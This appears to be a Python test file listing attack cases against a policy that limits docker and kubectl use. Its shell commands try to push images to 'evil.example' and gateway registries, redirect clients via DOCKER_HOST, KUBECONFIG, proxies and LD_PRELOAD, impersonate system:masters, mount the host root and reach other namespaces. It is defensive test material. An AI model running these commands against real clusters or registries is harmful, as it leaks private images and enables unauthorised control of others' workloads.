"""Going further than the policy: other registries, namespaces, Deployments, kinds, clusters."""

from tests.security.attack import Attack

_IMAGE = """cd "$(mktemp -d -p .)"; printf 'FROM scratch\\nCOPY Dockerfile /\\n' > Dockerfile
docker build -q -t @ID@:1 . && echo built
"""

ATTACKS = (
    Attack(
        "push-to-another-repository",
        "pushes outside the allowed path of the registry, by names that look allowed",
        _IMAGE
        + """for name in @REGISTRY@/other/@ID@:1 @LIBRARY@-evil/@ID@:1 @LIBRARY@evil/@ID@:1 \\
            @REGISTRY@/@ID@:1 @LIBRARY@/../other/@ID@:1 @LIBRARY@//@ID@:1 \\
            @REGISTRY@/LIBRARY/@ID@:1 127.0.0.1:@PORT@/library/@ID@:1 \\
            localhost:@PORT@/library/@ID@:1
        do
            passes docker tag @ID@:1 "$name"
            passes docker build -t "$name" .
            passes docker push "$name"
        done""",
        ("image names",),
        refused="docker.*",
        evidence="^built$",
    ),
    Attack(
        "push-to-another-registry",
        "pushes to a registry of the attacker, by names that look like the allowed one",
        _IMAGE
        + """for name in @GATEWAY@:@TCP@/@ID@:1 @GATEWAY@:@TCP@/library/@ID@:1 \\
            @REGISTRY@.evil.example/library/@ID@:1 evil.example/@LIBRARY@/@ID@:1 \\
            user@@LIBRARY@/@ID@:1
        do passes docker tag @ID@:1 "$name"; passes docker push "$name"; done
        passes docker push docker.io/library/@ID@:2
        passes docker push evil/@ID@:1""",
        ("image names",),
        refused="docker.*",
        evidence="^built$",
    ),
    Attack(
        "push-everything",
        "pushes all tags of a repository at once",
        """passes docker push -a @LIBRARY@/myapp
        passes docker push --all-tags @LIBRARY@/myapp
        passes docker image push --all-tags=true @LIBRARY@/myapp
        passes docker push -aq @LIBRARY@/myapp""",
        ("flag tables",),
        refused="docker.push.flag",
    ),
    Attack(
        "pull-a-private-image",
        "pulls an image of another team with the broker's login",
        """for name in @REGISTRY@/other/private:1 @REGISTRY@/other/private
        do passes docker pull $name; passes docker image pull -q $name; done
        passes docker pull -a @REGISTRY@/other/private
        passes docker pull --disable-content-trust @REGISTRY@/other/private:1""",
        ("image names",),
        refused="docker.pull.image",
    ),
    Attack(
        "republish-a-foreign-image",
        "gives the action's own image, and one of the host, an allowed name to push it",
        """for image in @ACTION@ @BASE@ $(docker images -q @BASE@) $(docker images -q @ACTION@); do
            passes docker tag $image @LIBRARY@/@ID@:1; done""",
        ("images of the run",),
        refused="docker.tag.source",
    ),
    Attack(
        "deploy-a-foreign-image",
        "sets an image of another repository in the Deployment",
        """for image in nginx docker.io/library/nginx:1 @REGISTRY@/other/private:1 \\
            @LIBRARY@evil/a:1 evil.example/@LIBRARY@/a:1 "" "@ID@:1" ; do
            passes kubectl set image --dry-run=server deployment/myapp app="$image"
            passes kubectl set image --dry-run=server deployment/myapp "*=$image"
            passes kubectl set image --dry-run=server deploy myapp app=@LIBRARY@/x:1 app="$image"
        done""",
        ("image names",),
        refused="kubectl.set.image.image",
    ),
    Attack(
        "another-namespace",
        "reads and changes another namespace, in every way to name it",
        """for flags in "-n staging" -nstaging -n=staging --namespace=staging \\
            "--namespace staging" \\
            "-n @NAMESPACE@ -n staging" "--namespace=@NAMESPACE@ --namespace=staging" \\
            "-n staging -n @NAMESPACE@" "-n default" "-n kube-system" "-n=" ; do
            passes kubectl $flags get pods
            passes kubectl get deployments $flags
            passes kubectl scale deployment/myapp --replicas=1 $flags
        done""",
        ("namespace rule",),
        refused="kubectl.*.namespace",
    ),
    Attack(
        "all-namespaces",
        "reads all namespaces at once",
        """for flags in -A --all-namespaces --all-namespaces=true -Ao\\ wide "-o wide -A" ; do
            passes kubectl get pods $flags; passes kubectl $flags get deployments; done
        passes kubectl describe pods -A
        passes kubectl events --all-namespaces""",
        ("flag tables",),
        refused="kubectl.*.flag",
    ),
    Attack(
        "namespaces-as-objects",
        "lists the namespaces, and looks at another one",
        """for words in "ns staging" "namespace/staging" namespaces ns Namespaces \\
            "ns default -o json"
        do passes kubectl get $words; done
        passes kubectl describe namespace staging""",
        ("namespace rule",),
        refused="kubectl.get.namespace",
    ),
    Attack(
        "another-deployment",
        "changes a Deployment that is not among the allowed ones",
        """passes kubectl set image deployment/payments app=@LIBRARY@/myapp:1
        passes kubectl scale deployment payments --replicas=0
        passes kubectl scale deployments/payments --replicas=0 --dry-run=server
        dry=--dry-run=server
        passes kubectl set image $dry deployment/myapp deployment/payments app=@LIBRARY@/myapp:1
        passes kubectl scale $dry deployment/myapp deployment/payments --replicas=0
        passes kubectl scale $dry deployments myapp payments --replicas=0
        for verb in restart undo pause resume
        do passes kubectl rollout $verb deploy/payments; done
        passes kubectl rollout restart deployments.v1.apps/payments""",
        ("resource names",),
        refused="kubectl.*.deployment",
    ),
    Attack(
        "many-at-once",
        "changes all Deployments by a selector or --all instead of a name",
        """for flags in --all "-l app" "--selector app" --selector=app=myapp -lapp
        do
            passes kubectl scale deployment $flags --replicas=0
            passes kubectl set image deployment $flags app=@LIBRARY@/myapp:1
            passes kubectl rollout restart deployment $flags
        done""",
        ("flag tables",),
        refused="kubectl.*.flag",
    ),
    Attack(
        "another-kind",
        "changes what is no Deployment",
        """passes kubectl scale replicaset/myapp --replicas=0
        passes kubectl scale rs -n @NAMESPACE@ myapp-1 --replicas=0
        passes kubectl set image pod/myapp app=@LIBRARY@/myapp:1
        passes kubectl set image daemonset,deployment/myapp app=@LIBRARY@/myapp:1
        passes kubectl rollout restart statefulset/db
        passes kubectl rollout undo daemonset/agent
        passes kubectl set image cronjob/backup app=@LIBRARY@/myapp:1""",
        ("kind rule",),
        refused="kubectl.*.kind",
    ),
    Attack(
        "another-cluster",
        "points kubectl at another server, user, token or configuration",
        """for flags in --context=devkit "--context devkit" --server=https://@GATEWAY@:@TCP@ \\
            "-s http://@GATEWAY@:@TCP@" -shttp://@GATEWAY@:@TCP@ --token=x --as=admin \\
            "--as admin" \\
            --as-group=system:masters --kubeconfig=mine "--kubeconfig mine" --cluster=x --user=x \\
            --insecure-skip-tls-verify --certificate-authority=x --client-key=x --kuberc=x \\
            --cache-dir=/tmp/x --profile=cpu --username=x --password=x
        do passes kubectl $flags get pods; passes kubectl get pods $flags; done""",
        ("flag tables",),
        refused="kubectl.get.flag",
    ),
    Attack(
        "another-engine",
        "points docker at another engine or configuration",
        """for flags in -Htcp://@GATEWAY@:@TCP@ "-H tcp://@GATEWAY@:@TCP@" \\
            "--host tcp://@GATEWAY@:@TCP@" \\
            --host=tcp://@GATEWAY@:@TCP@ --config=. "--config ." -c=x "--context x" --tlscacert=x \\
            -D --debug "-l debug"
        do passes docker $flags version; passes docker $flags images; done""",
        ("flag tables",),
        refused="docker.flag",
    ),
    Attack(
        "environment-of-the-shim",
        "sets the variables that docker and kubectl read",
        """mkdir -p kube; printf 'apiVersion: v1\\nkind: Config\\n%s\\n%s\\n' \\
            'clusters: [{name: a, cluster: {server: "http://@GATEWAY@:@TCP@/@ID@"}}]' \\
            'contexts: [{name: a, context: {cluster: a}}]' > kube/config
        echo 'current-context: a' >> kube/config
        export DOCKER_HOST=tcp://@GATEWAY@:@TCP@ DOCKER_CONFIG=$PWD DOCKER_CONTEXT=x \\
            KUBECONFIG=$PWD/kube/config HTTPS_PROXY=http://@GATEWAY@:@TCP@ DOCKER_BUILDKIT=1 \\
            HTTP_PROXY=http://@GATEWAY@:@TCP@ HOME=$PWD LD_PRELOAD=$PWD/x.so PYTHONPATH=$PWD
        docker version --format '{{.Server.Version}}'; kubectl get deployment myapp -o name
        rm -r kube""",
        ("own environment of docker and kubectl",),
        evidence="deployment.apps/myapp",
    ),
    Attack(
        "manifest-from-a-url",
        "has kubectl fetch a manifest from an address that only the action reaches",
        """for verb in apply create diff replace "apply --server-side"
        do passes kubectl $verb -f http://@GATEWAY@:@TCP@/@ID@
           passes kubectl $verb --filename=https://@GATEWAY@:@TCP@/@ID@; done
        passes kubectl apply -k http://@GATEWAY@:@TCP@/@ID@""",
        ("manifest files",),
        refused="kubectl.*.url",
    ),
    Attack(
        "commands-of-kubectl",
        "tries every command of kubectl that deletes, enters or connects",
        """for command in "delete deployment none" "delete pods --all -n none" "exec myapp -- id" \\
            "cp a:/x b" "port-forward pod/none 1" "proxy --port=0 --www=/etc" \\
            "debug none --image=x" "run @ID@ --image=x --dry-run=client" "attach none" \\
            "edit cm none" \\
            "replace -f none" "label pod none a=b" "annotate pod none a=b" "drain none" \\
            "cordon none" "taint node none a=b:NoSchedule" "expose deploy none --port=1" \\
            "autoscale deployment none --max=2" "certificate approve none" "kustomize /etc" \\
            "set env deployment/none A=b" "set serviceaccount deployment none x" \\
            "set resources deployment none --limits=cpu=1" "plugin list" "completion bash" \\
            "apply view-last-applied deploy none" "auth reconcile -f none" "options" "top pods" \\
            "cluster-info dump" "config set-context x" "create -f none job" "alpha events" "@ID@"
        do passes timeout 10 kubectl $command; done""",
        ("command table",),
        refused="kubectl.command",
    ),
    Attack(
        "commands-of-docker",
        "tries every command of docker that removes, reads or controls",
        """for command in "rmi none" "image rm none" "image prune --filter label=none" \\
            "system df" "system info" "info" "volume ls" "volume rm none" "network ls" \\
            "network inspect bridge" "save none" "load -i none" "import none" "export none" \\
            "commit none" "plugin ls" "swarm ca" "service ls" "node ls" "secret ls" "config ls" \\
            "context ls" "trust key" "manifest rm none" "checkpoint ls none" \\
            "events --until 1s" "search --help" "start none" "stop none" "kill none" "rm none" \\
            "update none" "wait none" "rename none @ID@" "create --pull=never none" "attach none" \\
            "pause none" "buildx ls" "buildx bake" "compose up" "builder prune" "stack ls" \\
            "port none" "@ID@"
        do passes docker $command; done""",
        ("command table",),
        refused="docker.command",
    ),
    Attack(
        "flags-in-disguise",
        "hides what it wants: abbreviated, behind --, in clusters, with = and without",
        """passes kubectl get pods --namesp staging
        passes kubectl get pods --all-name
        passes kubectl get -- pods -A
        passes kubectl scale deployment/myapp --replicas 1 -- -n staging
        passes kubectl get pods -oyaml -Anstaging
        passes docker build --netw host .
        passes docker run -itv/:/host @BASE@ true
        passes docker build -qt @ID@:1 --secret=id=a .
        passes docker push -- -a @LIBRARY@/myapp
        passes docker --config . push @LIBRARY@/myapp:1
        passes docker "build" "--tag" "@ID@:1" "--network" "host" "."
        passes kubectl "" get pods
        passes kubectl get pods $'\\x2dA'""",
        ("flag tables",),
        refused="*.flag",
    ),
    Attack(
        "changes-that-are-not-allowed",
        "creates and patches although the policy gives only images, scale and rollout",
        """printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata: {name: "@ID@"}\\n' > @ID@.yaml
        passes kubectl apply -f @ID@.yaml
        passes kubectl create -f @ID@.yaml
        passes kubectl create deployment @ID@ --image=@LIBRARY@/myapp:1 --replicas=0
        passes kubectl patch deployment myapp --dry-run=server -p '{"metadata":{"labels":{}}}'
        rm @ID@.yaml""",
        ("verb rule",),
        refused="kubectl.*.verb",
    ),
)
